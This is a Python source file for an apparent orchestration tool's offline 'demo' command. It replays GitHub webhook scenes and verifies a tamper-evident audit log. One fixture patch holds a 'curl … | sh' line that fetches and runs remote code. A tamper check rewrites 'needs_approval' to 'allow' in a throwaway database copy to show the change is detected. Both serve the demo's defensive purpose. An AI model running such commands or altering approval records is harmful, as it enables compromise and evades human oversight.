"""`potato demo`: real deliveries the whole way, offline, on a database of its own."""

from __future__ import annotations

import asyncio
import shutil
import sqlite3
import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import click

from potato.errors import FAILED, OK

if TYPE_CHECKING:
    from potato.config.config import Config
    from potato.hub.workflow import Outcome
    from potato.ports import RunRecord

_DATA: Final = Path(__file__).with_name("demo_data")
_PATCH: Final = "@@ -0,0 +1,2 @@\n+curl -s https://example.com/install.sh | sh\n+echo done"
_LOST: Final = "The hosted runner lost communication with the server."
_COVERAGE: Final = "Name            Stmts   Miss  Cover\nsrc/hello.py       20     20     0%\nsrc/world.py       40      4    90%"


@dataclass(frozen=True, slots=True)
class _Scene:
    title: str
    event: str
    delivery: str
    facts: dict[str, Any] = field(default_factory=dict[str, Any])


_SCENES: Final = (
    _Scene("A pull request is labelled: the router asks other agents", "pull_request", "pull_request.labeled",
           {"files": [{"path": "install.sh", "status": "added", "additions": 2, "deletions": 0, "patch": _PATCH}]}),
    _Scene("A pull request is opened: triage works, a stranger is held to its grant", "pull_request", "pull_request.opened",
           {"paths": ["docs/guide.md", "src/hello.py"], "codeowners": "*  @octocat\n/docs/  @monalisa\n"}),
    _Scene("CI fails because a runner was lost: the guard blocks automation", "workflow_run", "workflow_run.completed",
           {"jobs": ["tests"], "logs": _LOST}),
    _Scene("CI fails for a reason of the code: the guard lets coverage work", "workflow_run", "workflow_run.completed",
           {"jobs": ["tests"], "logs": _COVERAGE}),
    _Scene("CI's jobs cannot be fetched: nothing is guessed, the agents are held", "workflow_run", "workflow_run.completed"),
)  # fmt: skip


class _Silent:
    def run_changed(self, run: RunRecord) -> None:
        """Nothing to tell."""


@click.command(name="demo")
@click.option("--keep", metavar="DIR", type=click.Path(file_okay=False, path_type=Path), help="Keep config and database in this folder.")
def command(keep: Path | None) -> int:
    """Show the whole way on real deliveries: routed, held back, proposed, judged, staged, logged, verified.

    Runs offline on SQLite; nothing outside its own folder is touched.
    """
    if keep:
        keep.mkdir(parents=True, exist_ok=True)
        code = _play(keep)
        click.echo(f"kept; look with: potato runs --database sqlite:///{keep / 'potato.db'}", err=True)
        return code
    with tempfile.TemporaryDirectory(prefix="potato-demo-") as folder:
        return _play(Path(folder))


def _play(folder: Path) -> int:
    from potato.cli.render import heading, line
    from potato.config.loader import load_config

    shutil.copytree(_DATA, folder, dirs_exist_ok=True, ignore=shutil.ignore_patterns("deliveries", "__pycache__"))
    config = load_config(str(folder / "orchestrator.yml")).require()
    database = folder / "potato.db"
    before = _count(database)
    for number, scene in enumerate(_SCENES, 1):
        heading(f"━━ {number}. {scene.title}")
        _show(asyncio.run(_handle(config, scene, f"sqlite:///{database}")))
    heading("━━ The log")
    ok = _check_log(database)
    counts = _count(database)
    line(0, ", ".join(f"{counts[name] - before.get(name, 0)} {name}" for name in counts))
    return OK if ok else FAILED


async def _handle(config: Config, scene: _Scene, url: str) -> Outcome:
    import uuid

    from potato.bootstrap import make_hub, make_local_forge, open_store
    from potato.forges.github.normalise import normalise
    from potato.hub.workflow import handle
    from potato.ports import Delivery

    body = (_DATA / "deliveries" / f"{scene.delivery}.json").read_bytes()
    delivery = Delivery(f"demo-{uuid.uuid4().hex[:12]}", scene.event, body, "file")
    store, engine = open_store(url)
    try:
        hub = make_hub(config, store, make_local_forge(scene.facts), _Silent(), {})
        return await handle(hub, delivery, normalise(scene.event, body))
    finally:
        engine.dispose()


def _show(outcome: Outcome) -> None:
    """Routing in short; the runs whole."""
    from potato.cli.render import show_event, show_rules, show_runs

    show_event(outcome.event)
    show_rules(outcome.decision)
    show_runs(outcome.runs)


def _check_log(database: Path) -> bool:
    """Verify the log, then alter one byte in a copy and see that it is found."""
    from potato.bootstrap import verify_log
    from potato.cli.render import line

    verdict = verify_log(f"sqlite:///{database}")
    line(
        0,
        f"{'intact' if verdict.ok else 'ALTERED'}: {verdict.size} entries",
        ("✓", "green") if verdict.ok else ("✗", "red"),
        f"root {verdict.root[:16]}…",
    )
    copy = database.with_name("tampered.db")
    with sqlite3.connect(database) as source, sqlite3.connect(copy) as target:
        source.backup(target)
        target.execute("DROP TRIGGER audit_entry_no_update")
        target.execute(
            "UPDATE audit_entry SET leaf = CAST(replace(CAST(leaf AS TEXT), 'needs_approval', 'allow') AS BLOB) WHERE kind = 'verdict'"
        )
    found = verify_log(f"sqlite:///{copy}")
    for leftover in database.parent.glob("tampered.db*"):
        leftover.unlink()
    said = (
        f"in a copy where 'needs_approval' was changed to 'allow': found at entry {found.bad}"
        if not found.ok
        else "an altered copy was NOT found"
    )
    line(0, said, ("✓", "green") if not found.ok else ("✗", "red"))
    return verdict.ok and not found.ok


def _count(database: Path) -> dict[str, int]:
    if not database.exists():
        return {}
    names = {"deliveries": "delivery", "decisions": "decision", "runs": "run", "proposals": "proposal", "effects": "effect"}
    connection = sqlite3.connect(database)
    counts = {shown: int(connection.execute(f"SELECT count(*) FROM {name}").fetchone()[0]) for shown, name in names.items()}  # noqa: S608 - our own names
    connection.close()
    return counts
